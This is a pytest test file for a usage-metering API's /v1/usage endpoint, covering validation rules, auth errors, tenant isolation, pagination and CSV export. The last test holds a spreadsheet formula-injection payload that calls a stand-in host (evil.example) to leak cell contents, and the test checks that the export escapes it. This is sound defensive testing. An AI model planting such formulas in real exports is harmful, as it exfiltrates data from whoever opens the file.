"""`/v1/usage` over HTTP: every rejection rule, status codes, isolation and the audit trail."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient

from billing.tenants import revoke_api_key
from config.db import session_scope
from tests.api.conftest import Keys
from tests.billing.factories import event, recent


def post(api: TestClient, key: str, body: Any) -> Any:
    payload = body if isinstance(body, str | bytes) else json.dumps(body)
    return api.post("/v1/usage", content=payload, headers=Keys.header(key))


def test_accepted_duplicate_and_conflict_counts(api: TestClient, keys: Keys) -> None:
    batch = [event("e-1"), event("e-2", quantity=3)]
    first = post(api, keys.acme, batch)
    assert first.status_code == 200
    assert first.json() == {"accepted": 2, "duplicates": 0, "rejected": 0, "rejections": []}
    assert post(api, keys.acme, batch).json()["duplicates"] == 2
    changed = post(api, keys.acme, [{**batch[1], "quantity": 4}]).json()
    assert changed["rejections"] == [
        {
            "index": 0,
            "event_id": "e-2",
            "field": "event_id",
            "reason": "conflict: event_id 'e-2' was already received with a different body",
        }
    ]


def _raw(text: str) -> str:
    """A one-event body with JSON the standard encoder will not write (NaN, big decimals)."""
    return "[" + text.replace("@when", recent()) + "]"


PROPS_LIMIT = 16 * 1024
RULES: list[tuple[str, Any, str, str]] = [
    ("unknown client", event("e", client="nobody"), "client", "unknown client 'nobody'"),
    ("unknown usage type", event("e", usage_type="fax"), "usage_type", "unknown usage type 'fax'"),
    (
        "missing quantity",
        {k: v for k, v in event("e").items() if k != "quantity"},
        "quantity",
        "is required",
    ),
    ("non-numeric quantity", event("e", quantity="ten"), "quantity", "'ten' is not a number"),
    (
        "negative quantity",
        event("e", quantity=-1),
        "quantity",
        "must not be negative (only adjustments may be)",
    ),
    (
        "NaN",
        _raw(
            '{"event_id":"e","client":"alpha","usage_type":"sms","quantity":NaN,'
            '"occurred_at":"@when"}'
        ),
        "quantity",
        "must be finite (NaN and infinity are refused)",
    ),
    (
        "infinity",
        _raw(
            '{"event_id":"e","client":"alpha","usage_type":"sms","quantity":Infinity,'
            '"occurred_at":"@when"}'
        ),
        "quantity",
        "must be finite (NaN and infinity are refused)",
    ),
    (
        "too many decimals",
        _raw(
            '{"event_id":"e","client":"alpha","usage_type":"voice_minutes",'
            '"quantity":1.005,"occurred_at":"@when"}'
        ),
        "quantity",
        "has more decimal places than usage type 'voice_minutes' allows (2)",
    ),
    (
        "missing occurred_at",
        {k: v for k, v in event("e").items() if k != "occurred_at"},
        "occurred_at",
        "is required",
    ),
    (
        "unparsable occurred_at",
        event("e", occurred_at="last tuesday"),
        "occurred_at",
        "'last tuesday' is not an ISO 8601 timestamp",
    ),
    (
        "no time zone",
        event("e", occurred_at="2026-11-20T10:00:00"),
        "occurred_at",
        "has no time zone: add Z or an offset such as +02:00",
    ),
    (
        "far future",
        event("e", occurred_at=recent(-25)),
        "occurred_at",
        "is more than 24 hours in the future",
    ),
    (
        "out of range",
        event("e", occurred_at="0001-01-01T00:00:00+05:00"),
        "occurred_at",
        "'0001-01-01T00:00:00+05:00' is out of range",
    ),
    (
        "properties too big",
        event("e", properties={"p": "x" * PROPS_LIMIT}),
        "properties",
        f"is {PROPS_LIMIT + 8} bytes; the limit is 16 KiB",
    ),
]


@pytest.mark.parametrize(
    ("body", "field", "reason"), [r[1:] for r in RULES], ids=[r[0] for r in RULES]
)
def test_each_rejection_rule(
    api: TestClient, keys: Keys, body: Any, field: str, reason: str
) -> None:
    batch = body if isinstance(body, str) else [body]
    response = post(api, keys.acme, batch)
    assert response.status_code == 200, response.text
    result = response.json()
    assert (result["accepted"], result["rejected"]) == (0, 1)
    assert result["rejections"] == [{"index": 0, "event_id": "e", "field": field, "reason": reason}]


def test_a_partial_batch_keeps_the_valid_events(api: TestClient, keys: Keys) -> None:
    batch = [
        event("ok-0"),
        event("bad-1", client="nobody"),
        event("ok-2"),
        event("bad-3", quantity="x"),
        event("ok-4", usage_type="voice_minutes", quantity=1.25),
    ]
    result = post(api, keys.acme, batch).json()
    assert (result["accepted"], result["duplicates"], result["rejected"]) == (3, 0, 2)
    assert [(r["index"], r["field"]) for r in result["rejections"]] == [
        (1, "client"),
        (3, "quantity"),
    ]
    stored = api.get("/v1/usage", headers=Keys.header(keys.acme)).json()["items"]
    assert sorted(e["event_id"] for e in stored) == ["ok-0", "ok-2", "ok-4"]
    assert {e["event_id"]: e["quantity"] for e in stored}["ok-4"] == "1.25"


def test_a_batch_over_the_limit_is_413(api: TestClient, keys: Keys) -> None:
    batch = [event(f"e-{i}") for i in range(10_001)]
    response = post(api, keys.acme, batch)
    assert response.status_code == 413
    assert response.json()["detail"] == "10001 events in one batch; the limit is 10000"
    assert api.get("/v1/usage", headers=Keys.header(keys.acme)).json()["items"] == []


def test_a_body_over_the_byte_limit_is_413_even_without_a_length(
    api: TestClient, keys: Keys, monkeypatch: pytest.MonkeyPatch
) -> None:
    from billing.metering import endpoints

    monkeypatch.setattr(endpoints, "MAX_BODY_BYTES", 1_000)
    body = json.dumps([event(f"e-{i}") for i in range(20)]).encode()
    declared = post(api, keys.acme, body)
    streamed = api.post(
        "/v1/usage", content=iter([body[:600], body[600:]]), headers=Keys.header(keys.acme)
    )
    for response in (declared, streamed):
        assert response.status_code == 413
        assert "over 64 MiB" in response.json()["detail"]
    assert api.get("/v1/usage", headers=Keys.header(keys.acme)).json()["items"] == []


def test_malformed_json_is_400_saying_where(api: TestClient, keys: Keys) -> None:
    response = post(api, keys.acme, '[\n  {"event_id": "a",\n   "client" "alpha"}\n]')
    assert response.status_code == 400
    assert response.headers["content-type"] == "application/problem+json"
    body = response.json()
    assert (body["status"], body["title"], body["instance"]) == (400, "Bad Request", "/v1/usage")
    assert (body["line"], body["column"]) == (3, 13)
    assert body["detail"] == "malformed JSON at line 3, column 13: Expecting ':' delimiter"
    not_array = post(api, keys.acme, {"event_id": "a"})
    assert not_array.status_code == 400
    assert not_array.json()["detail"] == "the body must be a JSON array of events"


@pytest.mark.parametrize("header", [None, "Bearer rbk_000000000000_nope", "Basic abc", "Bearer "])
def test_a_missing_or_wrong_key_is_401(api: TestClient, keys: Keys, header: str | None) -> None:
    headers = {"Authorization": header} if header else {}
    response = api.post("/v1/usage", content="[]", headers=headers)
    assert response.status_code == 401
    assert response.headers["www-authenticate"] == "Bearer"


def test_a_revoked_key_is_401(api: TestClient, keys: Keys) -> None:
    assert post(api, keys.acme, []).status_code == 200
    with session_scope() as session:
        revoke_api_key(session, keys.acme)
    response = post(api, keys.acme, [])
    assert response.status_code == 401
    assert response.json()["detail"] == "invalid or revoked API key"


def test_a_key_without_the_scope_is_403(api: TestClient, keys: Keys) -> None:
    response = post(api, keys.acme_read, [event("e-1")])
    assert response.status_code == 403
    assert response.json()["detail"] == "this API key does not have the ingest scope"
    assert post(api, keys.platform, [event("e-1")]).status_code == 403
    assert api.get("/v1/usage", headers=Keys.header(keys.acme_read)).status_code == 200


def test_partners_cannot_reach_each_others_clients_or_events(api: TestClient, keys: Keys) -> None:
    assert post(api, keys.globex, [event("g-1", client="gamma")]).json()["accepted"] == 1
    write = post(api, keys.acme, [event("a-1", client="gamma")]).json()
    assert write["rejections"][0]["reason"] == "unknown client 'gamma'"
    as_acme = Keys.header(keys.acme)
    assert api.get("/v1/usage", headers=as_acme).json()["items"] == []
    assert api.get("/v1/usage", params={"client": "gamma"}, headers=as_acme).json()["items"] == []
    export = api.get("/v1/usage/export.csv", headers=as_acme).text
    assert "g-1" not in export and "gamma" not in export
    summary = api.get("/v1/usage/summary", params={"client": "gamma"}, headers=as_acme)
    assert summary.status_code == 404
    assert summary.json()["detail"] == "client 'gamma' not found"
    assert api.get("/v1/clients/gamma", headers=as_acme).status_code == 404
    mine = api.get("/v1/usage", headers=Keys.header(keys.globex)).json()["items"]
    assert [e["event_id"] for e in mine] == ["g-1"]


def test_the_trail_returns_exactly_what_was_stored(api: TestClient, keys: Keys) -> None:
    sent = [
        event(
            f"e-{i:03d}",
            client=("alpha", "beta")[i % 2],
            quantity=f"{i}",
            properties={"n": i, "tag": f"t{i % 3}"} if i % 4 else None,
        )
        for i in range(123)
    ]
    for start in range(0, len(sent), 50):
        assert post(api, keys.acme, sent[start : start + 50]).json()["accepted"] == len(
            sent[start : start + 50]
        )
    pages: list[dict[str, Any]] = []
    params: dict[str, Any] = {"limit": 20}
    while True:
        page = api.get("/v1/usage", params=params, headers=Keys.header(keys.acme)).json()
        pages.extend(page["items"])
        if page["next_cursor"] is None:
            break
        params["cursor"] = page["next_cursor"]
    assert len(pages) == len({p["id"] for p in pages}) == 123
    by_id = {p["event_id"]: p for p in pages}
    for body in sent:
        got = by_id[body["event_id"]]
        assert (got["client"], got["usage_type"], got["quantity"]) == (
            body["client"],
            body["usage_type"],
            body["quantity"],
        )
        assert datetime.fromisoformat(got["occurred_at"]) == datetime.fromisoformat(
            body["occurred_at"]
        )
        assert got["properties"] == body["properties"]
        assert got["source"] == "api"
    assert [p["id"] for p in pages] == sorted(p["id"] for p in pages)

    export = api.get("/v1/usage/export.csv", headers=Keys.header(keys.acme))
    assert export.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert [r["id"] for r in rows] == [p["id"] for p in pages]
    assert {r["event_id"]: r["quantity"] for r in rows} == {
        b["event_id"]: b["quantity"] for b in sent
    }

    beta = api.get(
        "/v1/usage", params={"client": "beta", "limit": 1000}, headers=Keys.header(keys.acme)
    )
    assert len(beta.json()["items"]) == 61


def test_summary_per_client_type_and_day(api: TestClient, keys: Keys) -> None:
    today = datetime.now(UTC)
    yesterday = today - timedelta(days=1)
    batch = [
        event("a", quantity=2, occurred_at=today.isoformat()),
        event("b", quantity=3, occurred_at=today.isoformat()),
        event("c", client="beta", quantity=5, occurred_at=yesterday.isoformat()),
    ]
    post(api, keys.acme, batch)
    params = {"from": yesterday.date().isoformat(), "to": today.date().isoformat()}
    body = api.get("/v1/usage/summary", params=params, headers=Keys.header(keys.acme_admin)).json()
    hidden = api.get("/v1/usage/summary", params=params, headers=Keys.header(keys.acme)).json()
    assert [line.pop("wholesale_cost") for line in hidden["lines"]] == [None, None]
    assert hidden["lines"] == [
        {k: v for k, v in line.items() if k != "wholesale_cost"} for line in body["lines"]
    ]
    assert body["lines"] == [
        {
            "client": "alpha",
            "usage_type": "sms",
            "day": today.date().isoformat(),
            "quantity": "5",
            "events": 2,
            "wholesale_cost": 4,
            "currency": "USD",
        },
        {
            "client": "beta",
            "usage_type": "sms",
            "day": yesterday.date().isoformat(),
            "quantity": "5",
            "events": 1,
            "wholesale_cost": 4,
            "currency": "USD",
        },
    ]


@pytest.mark.parametrize(
    ("path", "params", "status"),
    [
        ("/v1/usage", {"cursor": "%%%"}, 400),
        ("/v1/usage", {"from": "2026-11-01T00:00:00"}, 422),  # naive timestamps are refused
        ("/v1/usage", {"limit": 5000}, 422),
        ("/v1/usage/summary", {"period": "2026-11", "from": "2026-11-01"}, 400),
        ("/v1/usage/summary", {"from": "2026-11-05", "to": "2026-11-01"}, 400),
        ("/v1/usage/summary", {"period": "Nov"}, 422),
    ],
)
def test_bad_queries(
    api: TestClient, keys: Keys, path: str, params: dict[str, Any], status: int
) -> None:
    assert api.get(path, params=params, headers=Keys.header(keys.acme)).status_code == status


def test_the_export_escapes_formulas_and_keeps_negative_numbers(
    api: TestClient, keys: Keys
) -> None:
    """A platform-sent event id such as `=HYPERLINK(...)` must not run when finance opens the
    export; a negative adjustment's quantity stays a number."""
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    batch = [
        event(attack, quantity="5"),
        event("@SUM(1+1)"),
        event("fix", quantity="-2", adjusts=attack),
    ]
    assert post(api, keys.acme, batch).json()["accepted"] == 3
    export = api.get("/v1/usage/export.csv", headers=Keys.header(keys.acme))
    rows = {r["event_id"]: r for r in csv.DictReader(io.StringIO(export.text))}
    assert set(rows) == {"'" + attack, "'@SUM(1+1)", "fix"}
    assert rows["fix"]["quantity"] == "-2"
